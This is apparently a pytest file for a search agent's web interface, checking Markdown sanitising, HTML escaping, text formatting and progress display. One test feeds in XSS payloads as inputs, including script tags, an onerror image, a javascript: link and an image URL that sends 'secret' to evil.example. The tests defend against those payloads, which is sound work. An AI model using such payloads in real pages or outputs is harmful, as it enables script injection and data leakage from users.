"""What the page says: text of strangers stays text, and an answer's Markdown can only become harmless elements."""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.updates import Failed, GuardNotice, Step, Token
from ui.views.markdown import answer_tree
from ui.views.parts import THEME
from ui.views.viewer import highlight_top
from ui.views.watching import Watched, doing_now, steps_html
from ui.views.words import ago, esc, plain, shorten

ROOT = Path(__file__).resolve().parents[2]
ALLOWED = {"p", "h4", "ul", "ol", "li", "blockquote", "pre", "code", "strong", "em", "br", "hr"} | {
    "table", "thead", "tbody", "tr", "th", "td"
}  # fmt: skip


def tags(tree: Any) -> set[str]:
    if isinstance(tree, list):
        return set().union(*(tags(node) for node in tree))
    if isinstance(tree, dict) and "tag" in tree:
        return {tree["tag"]} | tags(tree["children"])
    return set()


def words(tree: Any) -> str:
    if isinstance(tree, list):
        return "".join(words(node) for node in tree)
    if isinstance(tree, dict):
        return f"[{tree['cite']}]" if "cite" in tree else words(tree["children"])
    return str(tree)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](http://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<http://evil.example>",
        "[1]: http://evil.example\n\nSee [1]",
        "&lt;script&gt;",
        "<style>*{display:none}</style>",
    ],
)
def test_nothing_in_an_answer_becomes_an_element_that_reaches_out(attack: str) -> None:
    tree = answer_tree(attack, {1})
    assert tags(tree) <= ALLOWED
    json.dumps(tree)
    assert "http" not in attack or "http" in words(tree)  # it is shown, as the text it is


@given(st.text(max_size=300))
def test_whatever_is_written_only_known_elements_come_out(text: str) -> None:
    assert tags(answer_tree(text)) <= ALLOWED


def test_the_browser_draws_no_other_elements_than_these_and_never_parses_html() -> None:
    script = (THEME / "answer.js").read_text()
    for tag in ALLOWED:
        assert f'"{tag}"' in script
    for name in ("answer.js", "page.js", "copy.js"):
        assert "innerHTML" not in (THEME / name).read_text()


def test_citations_become_chips_only_where_the_answer_has_them() -> None:
    assert answer_tree("So it is [1, 2].", {1, 2}) == [
        {"tag": "p", "children": ["So it is ", {"cite": 1}, {"cite": 2}, "."]}
    ]
    assert answer_tree("See [7].", {1}) == [{"tag": "p", "children": ["See [7]."]}]
    assert answer_tree("`a[1]`", {1}) == [{"tag": "p", "children": [{"tag": "code", "children": ["a[1]"]}]}]


@given(st.text(alphabet="ab*_`[]()<>#!:$\\|~&-.1 \n", max_size=60))
def test_plain_text_survives_markdown_unchanged(text: str) -> None:
    [inline] = MarkdownIt("commonmark").parseInline(plain(text))
    assert {child.type for child in inline.children or []} <= {"text", "text_special"}
    shown = "".join(child.content for child in inline.children or []).replace("\u2060", "")
    assert shown == " ".join(text.split())


def test_icon_codes_in_names_stay_letters() -> None:
    assert ":material/delete:" not in plain(":material/delete:").replace("\\", "")


def test_the_page_loads_nothing_heavy() -> None:
    heavy = ["torch", "faiss", "sqlalchemy", "langchain", "langchain_core", "transformers", "xllamacpp"]
    code = f"import sys, ui.app; print([name for name in {heavy} if name in sys.modules])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
    assert done.stdout.strip() == "[]"


def test_html_is_written_out() -> None:
    assert esc("<a href='x'>\"&") == "&lt;a href=&#x27;x&#x27;&gt;&quot;&amp;"


def test_long_text_is_cut_at_a_word() -> None:
    assert shorten("one two three four", 12) == "one two…"
    assert shorten("short", 12) == "short"
    assert len(shorten("x" * 100, 12)) == 12


def test_ago_is_said_as_people_say_it() -> None:
    now = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
    assert ago("2026-03-10T11:59:50Z", now=now) == "just now"
    assert ago("2026-03-10T11:30:00Z", now=now) == "30 min ago"
    assert ago("2026-03-10T09:00:00Z", now=now) == "3 h ago"
    assert ago("2026-03-08T12:00:00Z", now=now) == "2 days ago"
    assert ago("2026-01-01T12:00:00Z", now=now).startswith("2026-01-01")
    assert ago("not a time", now=now) == "not a time"


def test_watching_twice_changes_nothing_and_an_end_ends() -> None:
    updates = [
        Step(n=0, id="s", name="search_documents", status="started", detail="goats"),
        Token(n=1, text="Nine"),
        Token(n=2, text=" masts"),
        Step(n=3, id="s", name="search_documents", status="done", seconds=0.5),
        GuardNotice(n=4, ring="output", id="x", action="redact", detail="An address was hidden."),
    ]
    watched = Watched("r")
    watched.take(updates[:2])
    assert doing_now(watched.steps.values())["line"] == "Searching your documents"
    assert doing_now(watched.steps.values(), waited_s=3.7)["line"] == "Searching your documents · 3 s"
    watched.take(updates)
    assert watched.text == "Nine masts" and len(watched.notices) == 1 and watched.end is None
    assert "goats" in steps_html(watched.steps.values()) and "0.5 s" in steps_html(watched.steps.values())
    watched.take([Failed(n=5, message="It broke.")])
    assert isinstance(watched.end, Failed)


def test_the_highlight_of_a_picture_is_found() -> None:
    import io

    from PIL import Image

    def png(mark: bool) -> bytes:
        image = Image.new("RGB", (100, 200), "white")
        if mark:
            image.paste((255, 230, 100), (10, 150, 90, 160))
        out = io.BytesIO()
        image.save(out, format="PNG")
        return out.getvalue()

    assert highlight_top(png(True), png(False)) == 0.75
    assert highlight_top(png(False), png(False)) is None
